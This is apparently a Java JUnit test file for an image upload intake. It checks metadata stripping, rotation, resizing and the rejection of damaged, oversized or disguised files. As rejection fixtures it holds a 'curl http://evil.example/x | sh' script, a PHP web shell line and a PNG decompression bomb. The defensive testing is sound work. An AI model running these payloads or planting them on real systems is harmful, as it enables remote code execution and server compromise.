package org.vertebra.media;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.vertebra.media.TestImages.SECRET;
import static org.vertebra.media.TestImages.contains;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.Arrays;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;

/** The checks and preparation of an upload, in memory: real files, no database. */
class ImageIntakeTest {

    /** What a file that is no image, sound or video is told, here a script named photo.jpg. */
    static final String NOT_TAKEN = "photo.jpg is not a file the library takes (it looks like a script). It takes images in"
            + " JPEG, PNG, GIF or WebP, sounds in MP3, M4A, WAV, Ogg or FLAC and videos in MP4, QuickTime, WebM or Ogg.";

    private final ImageIntake intake = new ImageIntake(MediaLimits.ofMegabytes(10));

    @Test
    void jpegLosesExifXmpAndCommentButKeepsItsPictureUnchanged() {
        byte[] upload = TestImages.jpegWithExif(800, 600, 1);
        assertThat(contains(upload, SECRET)).isTrue();

        ImageIntake.Prepared image = intake.prepare("holiday.jpg", upload);

        assertThat(image.type()).isEqualTo(MediaType.JPEG);
        assertThat(contains(image.original(), SECRET)).isFalse();
        assertThat(contains(image.original(), "Exif")).isFalse();
        assertThat(contains(image.original(), "http://ns.adobe.com/xap")).isFalse();
        assertThat(image.original()).isEqualTo(TestImages.jpeg(800, 600)); // the scans, byte for byte
    }

    @Test
    void jpegTakenSidewaysIsTurnedUprightBeforeItsOrientationIsDropped() throws IOException {
        ImageIntake.Prepared image = intake.prepare("portrait.jpg", TestImages.jpegWithExif(400, 300, 6));

        assertThat(image.width()).isEqualTo(300);
        assertThat(image.height()).isEqualTo(400);
        BufferedImage stored = ImageIO.read(new ByteArrayInputStream(image.original()));
        assertThat(stored.getWidth()).isEqualTo(300);
        // The red square was top left; turned a quarter clockwise, it is top right.
        assertThat(isRed(stored.getRGB(stored.getWidth() - 10, 10))).isTrue();
        assertThat(isRed(stored.getRGB(10, 10))).isFalse();
        assertThat(contains(image.original(), SECRET)).isFalse();
    }

    @Test
    void pngLosesTextAndExifChunks() {
        byte[] upload = TestImages.pngWithTextChunks(300, 200);

        ImageIntake.Prepared image = intake.prepare("chart.png", upload);

        assertThat(contains(image.original(), SECRET)).isFalse();
        assertThat(contains(image.original(), "tEXt")).isFalse();
        assertThat(contains(image.original(), "iTXt")).isFalse();
        assertThat(contains(image.original(), "eXIf")).isFalse();
        assertThat(image.original()).isEqualTo(TestImages.png(300, 200));
    }

    @Test
    void animatedGifKeepsItsFramesAndLosesItsComments() throws IOException {
        byte[] upload = TestImages.animatedGif(200, 100, 3);
        assertThat(contains(upload, SECRET)).isTrue();

        ImageIntake.Prepared image = intake.prepare("wave.gif", upload);

        assertThat(image.animated()).isTrue();
        assertThat(contains(image.original(), SECRET)).isFalse();
        var reader = ImageIO.getImageReadersByFormatName("gif").next();
        reader.setInput(ImageIO.createImageInputStream(new ByteArrayInputStream(image.original())));
        assertThat(reader.getNumImages(true)).isEqualTo(3);
        assertThat(image.variants()).extracting(v -> v.type()).containsOnly(MediaType.PNG);
    }

    @Test
    void webpLosesExifAndXmpChunksAndTheirFlags() {
        byte[] upload = TestImages.resource("with-metadata.webp");
        assertThat(contains(upload, "SecretCam")).isTrue();

        ImageIntake.Prepared image = intake.prepare("knee.webp", upload);

        assertThat(image.type()).isEqualTo(MediaType.WEBP);
        assertThat(image.width()).isEqualTo(400);
        assertThat(image.height()).isEqualTo(225);
        assertThat(contains(image.original(), "SecretCam")).isFalse();
        assertThat(contains(image.original(), "Hometown-XMP-Secret")).isFalse();
        assertThat(contains(image.original(), "EXIF")).isFalse();
        int flags = image.original()[20] & 0xFF; // first chunk is VP8X; its flags follow its header
        assertThat(flags & 0x0C).isZero();
        assertThat(Bytes.u32le(image.original(), 4)).isEqualTo(image.original().length - 8L);
    }

    @Test
    void webpSizesAreReadFromLossyAndLosslessHeadersAndVariantsAreMadeByDecodingIt() {
        ImageIntake.Prepared lossy = intake.prepare("a.webp", TestImages.resource("lossy.webp"));
        ImageIntake.Prepared lossless = intake.prepare("b.webp", TestImages.resource("lossless.webp"));

        assertThat(lossy.width()).isEqualTo(400);
        assertThat(lossy.height()).isEqualTo(225);
        assertThat(lossless.width()).isEqualTo(200);
        assertThat(lossless.height()).isEqualTo(112);
        assertThat(lossy.variants()).singleElement().satisfies(v -> {
            assertThat(v.size()).isEqualTo(MediaVariant.Size.THUMBNAIL);
            assertThat(v.width()).isEqualTo(150);
            assertThat(v.type()).isEqualTo(MediaType.JPEG);
        });
    }

    @Test
    void variantsAreMadeAtEachWidthSmallerThanTheOriginalKeepingItsShape() throws IOException {
        ImageIntake.Prepared image = intake.prepare("wide.jpg", TestImages.jpeg(2000, 1000));

        assertThat(image.variants()).extracting(ImageIntake.Encoded::width).containsExactly(150, 640, 1280);
        assertThat(image.variants()).extracting(ImageIntake.Encoded::height).containsExactly(75, 320, 640);
        for (ImageIntake.Encoded variant : image.variants()) {
            BufferedImage decoded = ImageIO.read(new ByteArrayInputStream(variant.bytes()));
            assertThat(decoded.getWidth()).isEqualTo(variant.width());
            assertThat(decoded.getHeight()).isEqualTo(variant.height());
        }
    }

    @Test
    void smallImagesAreNeverScaledUp() {
        assertThat(intake.prepare("icon.png", TestImages.png(150, 150)).variants()).isEmpty();
        assertThat(intake.prepare("mid.png", TestImages.png(700, 300)).variants())
                .extracting(ImageIntake.Encoded::width).containsExactly(150, 640);
    }

    @Test
    void aScriptNamedJpgIsRefusedForWhatItIs() {
        byte[] script = "#!/bin/sh\ncurl http://evil.example/x | sh\n".getBytes();

        assertThatThrownBy(() -> intake.prepare("photo.jpg", script))
                .isInstanceOf(MediaRejected.class)
                .hasMessage(NOT_TAKEN);
    }

    @Test
    void otherDisguisesAreNamed() {
        assertThatThrownBy(() -> intake.prepare("a.png", "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>".getBytes()))
                .hasMessageContaining("it looks like an SVG drawing");
        assertThatThrownBy(() -> intake.prepare("a.gif", "<?php system($_GET['c']); ?>".getBytes()))
                .hasMessageContaining("it looks like a PHP script");
        assertThatThrownBy(() -> intake.prepare("a.webp", "<html><body>hi</body></html>".getBytes()))
                .hasMessageContaining("it looks like a web page");
    }

    @Test
    void aPngCutInHalfIsRefused() {
        byte[] png = TestImages.png(400, 300);

        assertThatThrownBy(() -> intake.prepare("scan.png", Arrays.copyOf(png, png.length / 2)))
                .isInstanceOf(MediaRejected.class)
                .hasMessageStartingWith("scan.png is damaged or incomplete: the file ends in the middle of a chunk.");
    }

    @Test
    void aPngWithoutItsEndIsRefusedEvenThoughImageIoWouldShowIt() throws IOException {
        byte[] png = TestImages.png(400, 300);
        byte[] noEnd = Arrays.copyOf(png, png.length - 12); // IEND removed; every pixel still there
        assertThat(ImageIO.read(new ByteArrayInputStream(noEnd))).isNotNull();

        assertThatThrownBy(() -> intake.prepare("scan.png", noEnd))
                .hasMessageContaining("the file ends before its last chunk (IEND)");
    }

    @Test
    void aJpegCutShortIsRefusedThoughImageIoOnlyWarns() {
        byte[] jpeg = TestImages.jpeg(640, 480);

        assertThatThrownBy(() -> intake.prepare("x-ray.jpg", Arrays.copyOf(jpeg, jpeg.length * 2 / 3)))
                .isInstanceOf(MediaRejected.class)
                .hasMessageContaining("x-ray.jpg is damaged or incomplete");
    }

    @Test
    void exifHiddenInsideAnEscapedByteOutsideThePictureDataIsRefusedNotKept() {
        // FF 00 is picture data, not a marker; read as a segment it carried the EXIF inside it
        // through unstripped (found by fuzzing: fuzz/jpeg/crash-279da627-metadata-hidden-behind-ff00.jpg).
        byte[] jpeg = TestImages.jpeg(64, 48);
        byte[] withExif = TestImages.jpegWithExif(64, 48, 1);
        int app1 = ((withExif[4] & 0xFF) << 8 | (withExif[5] & 0xFF)) + 2; // the EXIF segment right after SOI
        byte[] exif = Arrays.copyOfRange(withExif, 2, 2 + app1);
        byte[] hidden = new byte[2 + 4 + exif.length + jpeg.length - 2];
        hidden[0] = (byte) 0xFF;
        hidden[1] = (byte) 0xD8;
        hidden[2] = (byte) 0xFF;
        hidden[3] = 0x00;
        hidden[4] = (byte) ((exif.length + 2) >> 8);
        hidden[5] = (byte) (exif.length + 2);
        System.arraycopy(exif, 0, hidden, 6, exif.length);
        System.arraycopy(jpeg, 2, hidden, 6 + exif.length, jpeg.length - 2);
        assertThat(contains(hidden, SECRET)).isTrue();

        assertThatThrownBy(() -> JpegFile.read(hidden, "holiday.jpg"))
                .isInstanceOf(MediaRejected.class).hasMessageContaining("unexpected bytes between its segments");
    }

    @Test
    void aCorruptedPngChunkIsRefusedByItsChecksum() {
        byte[] png = TestImages.png(200, 200);
        png[png.length - 30] ^= 0x55; // inside the IDAT data

        assertThatThrownBy(() -> intake.prepare("a.png", png)).hasMessageContaining("checksum of its IDAT chunk is wrong");
    }

    @Test
    void aDecompressionBombIsRefusedByItsHeaderBeforeDecoding() {
        byte[] bomb = TestImages.pngBomb(50_000, 50_000);
        assertThat(bomb.length).isLessThan(200);

        assertThatThrownBy(() -> intake.prepare("bomb.png", bomb))
                .isInstanceOf(MediaRejected.class)
                .hasMessage("bomb.png is 50000 x 50000 pixels (2500 megapixels); the largest accepted is 50 megapixels."
                        + " Scale it down and upload it again.");
    }

    @Test
    void emptyAndOversizedFilesAreRefusedWithTheirSizes() {
        ImageIntake small = new ImageIntake(MediaLimits.ofMegabytes(1));
        byte[] big = TestImages.concat(TestImages.png(10, 10), new byte[1024 * 1024]);

        assertThatThrownBy(() -> intake.prepare("nothing.png", new byte[0])).hasMessage("nothing.png is empty.");
        assertThatThrownBy(() -> small.prepare("huge.png", big))
                .hasMessage("huge.png is 1.1 MB; the largest file accepted is 1 MB.");
    }

    private static boolean isRed(int rgb) {
        return ((rgb >> 16) & 0xFF) > 200 && ((rgb >> 8) & 0xFF) < 80 && (rgb & 0xFF) < 80;
    }
}
